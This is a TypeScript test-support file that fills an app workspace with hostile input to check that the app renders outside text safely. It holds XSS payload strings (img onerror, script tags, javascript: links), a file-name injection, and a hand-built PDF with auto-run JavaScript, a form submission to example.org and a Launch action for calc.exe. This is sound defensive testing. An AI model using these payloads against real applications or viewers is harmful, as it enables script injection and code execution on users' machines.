import path from 'node:path';
import { canonicalText } from '#shared/bundle/canonical-text.ts';
import { criteriaSetSchema } from '#shared/domain/criteria-set.ts';
import type { MemberId, Sha256 } from '#shared/domain/ids.ts';
import { roundSchema } from '#shared/domain/round.ts';
import { submissionSchema } from '#shared/domain/submission.ts';
import type { EvidenceState } from '#shared/ipc/views.ts';
import { ok } from '#shared/kernel/result.ts';
import type { Role } from '#shared/domain/council.ts';
import { createRealWorld } from '#electron/platform/real-world.ts';
import { workspacesFolder } from '#electron/services/list-workspaces/index.ts';
import { noteSummary } from '#electron/services/list-workspaces/note-summary.ts';
import { closeWorkspace, createWorkspace } from '#electron/services/open-workspace/index.ts';
import { putIntoVault } from '#test/support/put-into-vault.ts';
import { digestOf, smallRound, smallSet, smallSubmission } from '#test/support/small-round.ts';

/** Runs where text is taken for markup, for an attribute, for a script or for an address. */
export const HOSTILE = `"'><img src=x onerror="window.intruder=1"><script>window.intruder=2</script><a href="javascript:window.intruder=3">x</a>`;
/** For what may be 100 characters long at most. */
const SHORT_HOSTILE = `"><img src=x onerror="window.intruder=4">`;

/** Fields of files from outside that a person reads. Everything else is a code, a number or a digest that a schema has checked. */
const TEXTS = new Set(['title', 'titleEn', 'decision', 'rule', 'evidenceHint', 'name', 'group', 'label', 'explanation', 'section', 'note', 'documentNumber', 'reason', 'approvedBy', 'file']);

/** The same with `HOSTILE` behind every text that its sender could choose, as long as the format allows it. */
function poison<T>(value: T): T {
  return walk(value, '') as T;
}

function walk(value: unknown, key: string): unknown {
  if (typeof value === 'string') return TEXTS.has(key) ? poisonText(value, key) : value;
  if (Array.isArray(value)) return value.map((item: unknown) => walk(item, key));
  if (typeof value !== 'object' || value === null) return value;
  // A figure is called by its short name, which is no text.
  const isFigure = 'label' in value || 'value' in value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, walk(inner, isFigure && name === 'name' ? '' : name)]));
}

/** File names and figures are held to shorter or stricter forms: they get as much as these allow. */
function poisonText(text: string, key: string): string {
  if (key === 'file') return `${path.parse(text).name}-img src=x onerror=window.intruder='file'.pdf`;
  return key === 'documentNumber' ? SHORT_HOSTILE : `${text}${HOSTILE}`;
}

/** A document whose text, title, links, opening act and form are all after the reader. */
const HOSTILE_PDF = (() => {
  const literal = HOSTILE.replaceAll('\\', '\\\\').replaceAll('(', '\\(').replaceAll(')', '\\)');
  const text = `BT /F 14 Tf 40 700 Td (${literal}) Tj ET`;
  const script = '<< /S /JavaScript /JS (window.intruder = "pdf"; app.alert("x"); this.submitForm("http://example.org/pdf")) >>';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [6 0 R] /XFA 7 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /AA << /O ${script} >> /Annots [5 0 R 6 0 R << /Type /Annot /Subtype /Link /Rect [40 400 300 460] /A ${script} >> << /Type /Annot /Subtype /Link /Rect [40 300 300 360] /A << /S /Launch /F (calc.exe) >> >>] >>`,
    `<< /Length ${String(text.length)} >>\nstream\n${text}\nendstream`,
    '<< /Type /Annot /Subtype /Link /Rect [40 500 300 560] /A << /S /URI /URI (http://example.org/link) >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (${literal}) /V (${literal}) /Rect [40 200 300 260] /AA << /F ${script} >> >>`,
    '<< /Length 24 >>\nstream\n<xdp><script/></xdp>     \nendstream',
    `<< /Title (${literal}) /Author (${literal}) >>`,
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((body, at) => {
    const offset = file.length;
    file += `${String(at + 1)} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return `${file}xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R /Info 8 0 R >>\nstartxref\n${String(file.length)}\n%%EOF\n`;
})();

/** A workspace in which every text that came from outside is an attack; opened by its folder's name, which it gives. */
export async function makeHostileWorkspace(userData: string, role: Role): Promise<string> {
  const world = createRealWorld();
  const id = `du-${role}`;
  const created = await createWorkspace({ world, root: path.join(workspacesFolder(userData), id), role, title: poisonText('Đợt', 'title'), isSample: false });
  if (!created.ok) throw new Error(JSON.stringify(created.error));
  const context = created.value;
  try {
    const set = criteriaSetSchema.parse(poison(smallSet));
    const round = roundSchema.parse({ ...poison(smallRound), criteriaSet: digestOf(canonicalText(set)) });
    const staged = await putIntoVault(context, [new TextEncoder().encode(HOSTILE_PDF)]);
    const said = poison(smallSubmission());
    const submission = submissionSchema.parse({ ...said, criteriaSet: round.criteriaSet, evidence: said.evidence.map((file) => ({ ...file, sha256: staged.sha256, size: staged.size, pages: null })) });
    const states = new Map<Sha256, EvidenceState>([[staged.sha256, { kind: 'readable', pages: 1 }]]);
    const filled = context.store.transaction((records) => {
      const at = world.now();
      records.insertCriteriaSet({ digest: round.criteriaSet, set, at });
      records.replaceRound({ round, at });
      if (role === 'member') records.setMember({ member: 'm1' as MemberId, at });
      records.insertPackage({ manifest: digestOf(canonicalText(submission)), size: 4096, submission, files: new Map(), evidence: states, at });
      return ok(null);
    });
    if (!filled.ok) throw new Error(JSON.stringify(filled.error));
    await noteSummary(world, context);
    return id;
  } finally {
    closeWorkspace(context);
  }
}
